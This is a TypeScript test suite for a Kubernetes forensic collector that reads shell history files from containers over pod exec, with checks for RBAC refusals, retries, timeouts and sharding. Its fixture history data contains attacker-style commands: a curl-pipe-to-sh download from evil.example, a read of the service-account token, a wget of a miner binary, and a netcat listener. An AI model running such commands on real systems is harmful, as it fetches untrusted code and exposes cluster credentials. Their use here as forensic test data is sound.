import { commandHistorySource, createCommandHistorySource, historyExecOutcome } from '../../shared/sources/commandhistory/source.js';
import { HISTORY_SHELLS, historyCommand } from '../../shared/sources/commandhistory/historyScript.js';
import { execInPod } from '../../shared/cluster/podExec.js';
import type { PodExecResult } from '../../shared/cluster/podExec.js';
import type { KubeObject, Scenario } from '../../shared/simulator/kube/scenario.js';
import { collect, context, FIXED_NOW, namespace, pod, startCluster } from './helpers.js';

const BASH_HISTORY = '#1772358000\nls -la /root\n#1772358060\ncat /var/run/secrets/kubernetes.io/serviceaccount/token\ncurl -s http://evil.example/x.sh | sh\n';
const ZSH_HISTORY = ': 1772358100:0;whoami\n: 1772358160:3;for i in 1 2; do\\\necho $i\\\ndone\n: 1772358200:0;exit\n';
const ASH_HISTORY = 'id\nwget http://10.0.0.5/miner -O /tmp/m\n\nchmod +x /tmp/m\n';

function scenario(): Scenario {
  const objects: KubeObject[] = [
    namespace('shop'),
    pod({
      namespace: 'shop',
      name: 'web',
      initContainers: [{ name: 'sidecar' }, { name: 'init-done', state: 'terminated:0' }],
      containers: [{ name: 'app' }, { name: 'distroless' }, { name: 'bashonly' }, { name: 'empty' }, { name: 'stopped', state: 'terminated:1' }],
      ephemeralContainers: [{ name: 'debugger' }],
    }),
  ];
  return {
    name: 'history',
    objects,
    containers: {
      'shop/web/app': {
        binaries: ['/bin/sh', '/bin/ash'],
        files: { '/root/.bash_history': BASH_HISTORY, '/home/alice/.zsh_history': ZSH_HISTORY, '/root/.ash_history': ASH_HISTORY, '/etc/passwd': 'root:x:0:0' },
      },
      'shop/web/distroless': { binaries: [] },
      'shop/web/bashonly': { binaries: ['/bin/bash'], files: { '/home/bob/.bash_history': 'sudo su\n' } },
      'shop/web/empty': { binaries: ['/bin/sh'], files: {} },
      'shop/web/sidecar': { binaries: ['/bin/sh'], files: { '/root/.sh_history': 'nc -lvp 4444\n' } },
      'shop/web/debugger': { binaries: ['/bin/sh'], files: { '/root/.ash_history': 'ps aux\n' } },
    },
  };
}

describe('command history source', () => {
  test.each([['v5.channel.k8s.io'], ['v4.channel.k8s.io']])('reads every running container over exec (%s)', async (protocol) => {
    const { cluster, kc } = await startCluster(scenario(), { execProtocols: [protocol] });
    try {
      // The history script really runs: busybox sh (app), dash (sidecar, debugger, empty), bash (bashonly).
      expect(cluster.exec).toMatchObject({ mode: 'real' });
      const out = await collect(commandHistorySource, context(kc));
      const rows = out.rows.map((r) => [r['container_name'], r['history_file'], r['shell'], r['user'], r['line_number'], r['command'], r['command_time']]);
      expect(rows).toEqual(
        expect.arrayContaining([
          ['app', '/root/.bash_history', 'bash', 'root', 2, 'ls -la /root', '2026-03-01T09:40:00.000Z'],
          ['app', '/root/.bash_history', 'bash', 'root', 4, 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', '2026-03-01T09:41:00.000Z'],
          ['app', '/root/.bash_history', 'bash', 'root', 5, 'curl -s http://evil.example/x.sh | sh', null],
          ['app', '/home/alice/.zsh_history', 'zsh', 'alice', 1, 'whoami', '2026-03-01T09:41:40.000Z'],
          ['app', '/home/alice/.zsh_history', 'zsh', 'alice', 2, 'for i in 1 2; do\necho $i\ndone', '2026-03-01T09:42:40.000Z'],
          ['app', '/home/alice/.zsh_history', 'zsh', 'alice', 5, 'exit', '2026-03-01T09:43:20.000Z'],
          ['app', '/root/.ash_history', 'ash', 'root', 1, 'id', null],
          ['app', '/root/.ash_history', 'ash', 'root', 2, 'wget http://10.0.0.5/miner -O /tmp/m', null],
          ['app', '/root/.ash_history', 'ash', 'root', 4, 'chmod +x /tmp/m', null],
          ['bashonly', '/home/bob/.bash_history', 'bash', 'bob', 1, 'sudo su', null],
          ['sidecar', '/root/.sh_history', 'sh', 'root', 1, 'nc -lvp 4444', null],
          ['debugger', '/root/.ash_history', 'ash', 'root', 1, 'ps aux', null],
        ]),
      );
      expect(out.rows).toHaveLength(12);
      // TimeGenerated: the shell's time when recorded, else the collection time.
      expect(out.rows.find((r) => r['command'] === 'whoami')!['TimeGenerated']).toBe('2026-03-01T09:41:40.000Z');
      expect(out.rows.find((r) => r['command'] === 'id')!['TimeGenerated']).toBe(FIXED_NOW.toISOString());

      // Nothing failed: no shell, no history file and not running are coverage, not gaps.
      expect(out.gaps).toEqual([]);
      expect(out.coverage).toEqual([
        { commandhistory: { containers: 8, read: 5, withHistory: 4, withoutHistory: 1, withoutShell: 1, notRunning: 2, failed: 0, historyFiles: 6, retried: 0 } },
      ]);

      // Every exec the server saw is a collector action, and nothing else is.
      expect(out.actions).toHaveLength(cluster.execLog.length);
      const actions = out.actions.map((a) => [a.container, a.command[0], a.outcome]);
      expect(actions.sort()).toEqual(
        [
          ['app', '/bin/sh', 'ok'],
          ['bashonly', '/bin/sh', 'no-shell'],
          ['bashonly', '/bin/bash', 'ok'],
          ['debugger', '/bin/sh', 'ok'],
          ['distroless', '/bin/sh', 'no-shell'],
          ['distroless', '/bin/bash', 'no-shell'],
          ['empty', '/bin/sh', 'no-history'],
          ['sidecar', '/bin/sh', 'ok'],
        ].sort(),
      );
      for (const a of out.actions) {
        expect(a).toMatchObject({ kind: 'exec', namespace: 'shop', pod: 'web', at: FIXED_NOW.toISOString() });
        expect(a.command).toEqual(historyCommand(a.command[0]));
        expect(typeof a.durationMs).toBe('number');
      }
      expect(out.actions.find((a) => a.container === 'app')).toMatchObject({ exitCode: 0, detail: '3 history file(s) read' });
      // The server received exactly the recorded argv.
      expect(cluster.execLog.map((e) => e.command)).toEqual(expect.arrayContaining([historyCommand('/bin/sh'), historyCommand('/bin/bash')]));
      // Shells are tried in order, only after the previous one was missing.
      const bashonly = cluster.execLog.filter((e) => e.container === 'bashonly').map((e) => e.command[0]);
      expect(bashonly).toEqual(['/bin/sh', '/bin/bash']);
      expect(cluster.execLog.filter((e) => e.container === 'distroless').map((e) => e.command[0])).toEqual([...HISTORY_SHELLS]);

      // Raw: every history file as read, byte-exact, with its hash.
      const files = out.raws.filter((r) => r.stream === 'files').map((r) => r.object as Record<string, unknown>);
      expect(files).toHaveLength(6);
      const bash = files.find((f) => f['path'] === '/root/.bash_history')!;
      expect(bash).toMatchObject({ kind: 'HistoryFile', container: 'app', size: Buffer.byteLength(BASH_HISTORY), encoding: 'utf8', content: BASH_HISTORY });
      expect(bash['sha256']).toMatch(/^[0-9a-f]{64}$/);
      expect(out.requests).toBe(1 + cluster.execLog.length);
    } finally {
      await cluster.stop();
    }
  });

  test('403 on pods/exec: one forbidden gap, every refused exec still recorded', async () => {
    const s = scenario();
    s.forbidden = ['pods/exec'];
    const { cluster, kc } = await startCluster(s);
    try {
      const out = await collect(commandHistorySource, context(kc));
      expect(out.rows).toEqual([]);
      const forbidden = out.gaps.filter((g) => g.reason === 'forbidden');
      expect(forbidden).toHaveLength(1);
      expect(forbidden[0]!.detail).toMatch(/^pods\/exec was refused for 6 container\(s\) in namespace\(s\) shop/);
      expect(out.actions).toHaveLength(6);
      expect(out.actions.every((a) => a.outcome === 'failed' && a.detail === 'refused: pods/exec forbidden (HTTP 403)')).toBe(true);
    } finally {
      await cluster.stop();
    }
  });

  test('exec allowed in one namespace only (RBAC): that namespace is read, the other is a forbidden gap naming it', async () => {
    const rbac = 'rbac.authorization.k8s.io/v1';
    const subjects = [{ kind: 'ServiceAccount', name: 'collector', namespace: 'aks-evidence' }];
    const s: Scenario = {
      name: 'exec-in-one-namespace',
      collector: { access: 'rbac' },
      objects: [
        namespace('a'),
        namespace('b'),
        pod({ namespace: 'a', name: 'p', containers: [{ name: 'c' }] }),
        pod({ namespace: 'b', name: 'p', containers: [{ name: 'c' }] }),
        { apiVersion: rbac, kind: 'ClusterRole', metadata: { name: 'pod-lister' }, rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list', 'watch'] }] },
        {
          apiVersion: rbac,
          kind: 'ClusterRoleBinding',
          metadata: { name: 'collector-pods' },
          roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'pod-lister' },
          subjects,
        },
        { apiVersion: rbac, kind: 'Role', metadata: { name: 'exec', namespace: 'a' }, rules: [{ apiGroups: [''], resources: ['pods/exec'], verbs: ['get', 'create'] }] },
        {
          apiVersion: rbac,
          kind: 'RoleBinding',
          metadata: { name: 'collector-exec', namespace: 'a' },
          roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'exec' },
          subjects,
        },
      ],
      containers: {
        'a/p/c': { binaries: ['/bin/sh'], files: { '/root/.sh_history': 'id\n' } },
        'b/p/c': { binaries: ['/bin/sh'], files: { '/root/.sh_history': 'whoami\n' } },
      },
    };
    const { cluster, kc } = await startCluster(s);
    try {
      const out = await collect(commandHistorySource, context(kc));
      expect(out.rows.map((r) => [r['namespace'], r['command']])).toEqual([['a', 'id']]);
      expect(out.gaps).toEqual([expect.objectContaining({ reason: 'forbidden', resource: 'pods/exec' })]);
      expect(out.gaps[0]!.detail).toMatch(/^pods\/exec was refused for 1 container\(s\) in namespace\(s\) b: /);
      // The API server's own refusal, read from the refused upgrade: who may not do what, where.
      expect(out.gaps[0]!.detail).toMatch(
        /Unexpected server response: 403 \(pods "[^"]+" is forbidden: User "[^"]+" cannot get resource "pods\/exec" in API group "" in the namespace "b"\)/,
      );
      expect(out.actions.map((a) => [a.namespace, a.outcome, a.detail])).toEqual(
        expect.arrayContaining([
          ['a', 'ok', '1 history file(s) read'],
          ['b', 'failed', 'refused: pods/exec forbidden (HTTP 403)'],
        ]),
      );
      expect(out.actions).toHaveLength(2);
      expect(out.coverage).toEqual([{ commandhistory: expect.objectContaining({ containers: 2, read: 1, failed: 1 }) }]);
    } finally {
      await cluster.stop();
    }
  });

  test('a refused upgrade (500) is retried; a deleted pod is pod-vanished', async () => {
    const objects: KubeObject[] = [
      namespace('a'),
      pod({ namespace: 'a', name: 'p1', containers: [{ name: 'c' }] }),
      pod({ namespace: 'a', name: 'p2', containers: [{ name: 'c' }] }),
    ];
    const s: Scenario = {
      name: 'retry',
      objects,
      containers: {
        'a/p1/c': { binaries: ['/bin/sh'], files: { '/root/.ash_history': 'uname -a\n' } },
        'a/p2/c': { binaries: ['/bin/sh'], files: { '/root/.ash_history': 'never read\n' } },
      },
    };
    const { cluster, kc } = await startCluster(s, { faults: [{ match: 'pods/p1/exec', status: 500, times: 1 }] });
    try {
      const rows: string[] = [];
      const gaps: { reason: string; pod?: string }[] = [];
      const actions: { pod: string; outcome: string }[] = [];
      for await (const item of commandHistorySource.collect(context(kc, { concurrency: 1 }))) {
        if (item.kind === 'rows') {
          rows.push(...item.rows.map((r) => String(r['command'])));
          cluster.deleteObject('Pod', 'a', 'p2');
        }
        if (item.kind === 'gap') gaps.push(item.gap);
        if (item.kind === 'action') actions.push(item.action);
      }
      expect(rows).toEqual(['uname -a']);
      expect(gaps).toEqual([expect.objectContaining({ reason: 'pod-vanished', pod: 'p2' })]);
      expect(actions).toEqual([expect.objectContaining({ pod: 'p1', outcome: 'ok' }), expect.objectContaining({ pod: 'p2', outcome: 'vanished' })]);
      expect(cluster.requestLog.filter((r) => r.path.endsWith('/exec')).map((r) => r.status)).toEqual([500, 101, 404]);
    } finally {
      await cluster.stop();
    }
  });

  test('many containers in parallel, sharded: every history read exactly once', async () => {
    const objects: KubeObject[] = [namespace('big')];
    const containers: Scenario['containers'] = {};
    for (let i = 0; i < 60; i++) {
      objects.push(pod({ namespace: 'big', name: `p${i}`, containers: [{ name: 'a' }, { name: 'b' }] }));
      containers[`big/p${i}/a`] = { binaries: ['/bin/sh'], files: { '/root/.ash_history': `echo ${i}a\n` } };
      containers[`big/p${i}/b`] = { binaries: ['/bin/sh'], files: { '/root/.bash_history': `echo ${i}b\n` } };
    }
    const { cluster, kc } = await startCluster({ name: 'par', objects, containers }, { latencyMs: 5, maxPageSize: 25 });
    try {
      const commands: string[] = [];
      for (let index = 0; index < 2; index++) {
        const out = await collect(commandHistorySource, context(kc, { concurrency: 32, shard: { index, count: 2 } }));
        expect(out.gaps).toEqual([]);
        commands.push(...out.rows.map((r) => String(r['command'])));
      }
      expect(commands).toHaveLength(120);
      expect(new Set(commands).size).toBe(120);
      expect(cluster.execLog).toHaveLength(120);
    } finally {
      await cluster.stop();
    }
  });

  test('an exec that does not finish in time is a timeout gap', async () => {
    const s: Scenario = {
      name: 'slow',
      objects: [namespace('a'), pod({ namespace: 'a', name: 'p', containers: [{ name: 'c' }] })],
      containers: { 'a/p/c': { binaries: ['/bin/sh'], files: { '/root/.ash_history': 'x\n' } } },
    };
    // 300 ms per request against a 50 ms exec budget.
    const { cluster, kc } = await startCluster(s, { latencyMs: 300 });
    try {
      const out = await collect(createCommandHistorySource({ execTimeoutInMs: 50 }), context(kc));
      expect(out.rows).toEqual([]);
      expect(out.gaps).toEqual([expect.objectContaining({ reason: 'timeout', container: 'c' })]);
      expect(out.actions).toEqual([expect.objectContaining({ outcome: 'failed', detail: 'timed out after 50 ms' })]);
    } finally {
      await cluster.stop();
    }
  });
});

describe('execInPod', () => {
  test('reports exit codes, stderr and a missing binary from the status channel', async () => {
    const s: Scenario = {
      name: 'exec',
      objects: [namespace('a'), pod({ namespace: 'a', name: 'p', containers: [{ name: 'c' }] })],
      containers: { 'a/p/c': { binaries: ['/bin/sh', '/bin/cat'], files: { '/etc/hostname': 'p\n' } } },
    };
    const { cluster, kc } = await startCluster(s);
    try {
      const target = { namespace: 'a', pod: 'p', container: 'c' };
      const chunks: Buffer[] = [];
      const ok = await execInPod(kc, { ...target, command: ['cat', '/etc/hostname'] }, { onStdout: (c) => chunks.push(c) });
      expect(ok).toMatchObject({ end: 'success', exitCode: 0, stdoutBytes: 2, protocol: 'v5.channel.k8s.io' });
      expect(Buffer.concat(chunks).toString()).toBe('p\n');

      const exit3 = await execInPod(kc, { ...target, command: ['/bin/sh', '-c', 'exit 3'] }, { onStdout: () => undefined });
      expect(exit3).toMatchObject({ end: 'non-zero-exit', exitCode: 3 });
      expect(exit3.message).toContain('exit code 3');

      const missing = await execInPod(kc, { ...target, command: ['cat', '/nope'] }, { onStdout: () => undefined });
      expect(missing).toMatchObject({ end: 'non-zero-exit', exitCode: 1, stderr: 'cat: /nope: No such file or directory\n' });

      const noBinary = await execInPod(kc, { ...target, command: ['/bin/zsh', '-c', 'true'] }, { onStdout: () => undefined });
      expect(noBinary.end).toBe('start-failed');
      expect(noBinary.message).toMatch(/no such file or directory/);
    } finally {
      await cluster.stop();
    }
  });
});

describe('historyExecOutcome', () => {
  const base: PodExecResult = { end: 'success', exitCode: 0, stderr: '', stdoutBytes: 0, protocol: 'v5.channel.k8s.io', durationMs: 1 };

  test('a shell without the tools the script needs: no invented rows, an exec-failed gap naming the tool', async () => {
    // Without head, the script would print each file's marker and no content, and the next marker
    // would be parsed as the previous file's commands. It checks its tools first and stops.
    const objects: KubeObject[] = [namespace('bare'), pod({ namespace: 'bare', name: 'shell-only', containers: [{ name: 'c' }] })];
    const containers: Scenario['containers'] = {
      'bare/shell-only/c': {
        userland: 'none',
        binaries: ['/bin/sh', '/usr/bin/wc', '/usr/bin/tr'],
        files: { '/root/.bash_history': 'id\n', '/home/eve/.ash_history': 'whoami\n' },
      },
    };
    const { cluster, kc } = await startCluster({ name: 'bare', objects, containers });
    try {
      expect(cluster.exec).toMatchObject({ mode: 'real' });
      const out = await collect(commandHistorySource, context(kc));
      expect(out.rows).toEqual([]);
      expect(out.gaps).toEqual([expect.objectContaining({ reason: 'exec-failed', container: 'c' })]);
      expect(out.gaps[0]!.detail).toMatch(/^exit code 127: .*; stderr: aks-evidence: head not found in the container; 0 file\(s\) read before$/);
    } finally {
      await cluster.stop();
    }
  });

  test('classifies every ending', () => {
    expect(
      historyExecOutcome('/bin/sh', { ...base, end: 'start-failed', exitCode: undefined, message: 'exec: "/bin/sh": stat /bin/sh: no such file or directory: unknown' }, 0),
    ).toEqual({
      action: 'no-shell',
      detail: '/bin/sh not found in the container',
    });
    // Runtimes that report a missing binary as exit 127.
    expect(historyExecOutcome('/bin/sh', { ...base, end: 'non-zero-exit', exitCode: 127, stderr: 'exec: "/bin/sh": executable file not found in $PATH' }, 0).action).toBe(
      'no-shell',
    );
    expect(historyExecOutcome('/bin/sh', { ...base, end: 'start-failed', exitCode: undefined, message: 'permission denied' }, 0)).toMatchObject({
      action: 'failed',
      gap: 'exec-failed',
    });
    expect(historyExecOutcome('/bin/sh', { ...base, stdoutBytes: 10 }, 2)).toEqual({ action: 'ok', detail: '2 history file(s) read' });
    expect(historyExecOutcome('/bin/sh', base, 0)).toEqual({ action: 'no-history', detail: '/bin/sh ran; no shell history files under /root or /home/*' });
    const nonZero = historyExecOutcome('/bin/sh', { ...base, end: 'non-zero-exit', exitCode: 2, stdoutBytes: 50, stderr: 'head: /root/.x: Permission denied' }, 1);
    expect(nonZero).toMatchObject({ action: 'failed', gap: 'exec-failed' });
    expect(nonZero.detail).toBe('exit code 2: stderr: head: /root/.x: Permission denied; 1 file(s) read before');
    expect(historyExecOutcome('/bin/sh', { ...base, end: 'closed-without-status', exitCode: undefined }, 0).detail).toMatch(/^the connection closed without a status/);
    expect(historyExecOutcome('/bin/sh', { ...base, stdoutBytes: 9 }, 1, new Error('output ended 3 bytes short of /root/.ash_history (12 bytes announced)')).detail).toMatch(
      /^output ended 3 bytes short/,
    );
  });
});
